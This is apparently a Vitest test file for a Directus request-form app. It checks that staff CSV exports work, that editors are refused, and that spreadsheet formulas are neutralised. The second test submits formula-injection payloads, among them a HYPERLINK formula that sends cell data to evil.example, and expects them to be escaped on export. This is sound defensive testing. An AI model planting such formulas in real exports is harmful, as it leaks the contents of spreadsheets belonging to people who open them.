// Staff export requests to CSV with Directus' own export (README "Hand-off"): the collection
// page's Import / Export → Export Items → CSV → Download File asks the items endpoint with
// `export=csv`, as staff, within the page limit.
import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { fetchAs } from './demo-users';
import { backdatedFormToken, postForm, validRequest } from './request-form-client';

describe('request export to CSV', () => {
  it("gives staff a CSV file of the requests they ask for, with Directus' own export", async () => {
    const company = `Export Test ${randomUUID().slice(0, 8)}`;
    const token = backdatedFormToken();
    const response = await postForm('submit', validRequest(token, { company, first_name: 'Ada, "the first"' }), {
      key: randomUUID(),
    });
    expect(response.status).toBe(201);

    const fields = 'date_submitted,first_name,last_name,email,company,project,budget,status';
    const exported = await fetchAs(
      'staff',
      `/items/requests?export=csv&fields=${fields}&filter[company][_eq]=${encodeURIComponent(company)}&limit=-1`,
    );
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(exported.headers.get('content-disposition')).toMatch(/attachment; filename="requests .*\.csv"/);
    const lines = (await exported.text()).trim().split('\n');
    expect(lines[0]).toBe(
      fields
        .split(',')
        .map((field) => `"${field}"`)
        .join(','),
    );
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('"Ada, ""the first"""');
    expect(lines[1]).toContain(`"${company}"`);
    // Editors have no access to requests, so no export of them either.
    expect((await fetchAs('editor', `/items/requests?export=csv&fields=${fields}`)).status).toBe(403);
  });

  it('exports no live spreadsheet formula, in either CSV format, and phone numbers as typed', async () => {
    const company = `@SUM(1+1) ${randomUUID().slice(0, 8)}`;
    const lastName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const token = backdatedFormToken();
    const response = await postForm(
      'submit',
      validRequest(token, { company, last_name: lastName, title: '+1-1', phone: '+1 503 555 0148' }),
      { key: randomUUID() },
    );
    expect(response.status).toBe(201);

    for (const format of ['csv', 'csv_utf8']) {
      const exported = await fetchAs(
        'staff',
        `/items/requests?export=${format}&fields=last_name,company,title,phone&filter[company][_eq]=${encodeURIComponent(company)}`,
      );
      expect(exported.status).toBe(200);
      const row = (await exported.text()).trim().split('\n')[1];
      expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'${company}","'+1-1","+1 503 555 0148"`);
    }
    // What staff read in the admin is what the prospect typed.
    const read = await fetchAs(
      'staff',
      `/items/requests?fields=last_name&filter[company][_eq]=${encodeURIComponent(company)}`,
    );
    expect(((await read.json()) as { data: { last_name: string }[] }).data[0]!.last_name).toBe(lastName);
  });
});
